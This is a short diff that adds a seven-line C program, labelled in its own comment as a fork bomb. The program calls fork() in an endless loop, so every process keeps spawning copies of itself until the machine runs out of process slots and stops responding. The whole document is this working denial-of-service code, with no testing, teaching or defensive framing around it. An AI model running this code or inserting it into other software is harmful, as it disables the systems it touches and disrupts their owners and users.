@@ -1,0 +1,7 @@
+/* Fork bomb: every process forks forever; a refused fork just tries again. */
+#include <unistd.h>
+
+int main(void) {
+    for (;;)
+        fork();
+}
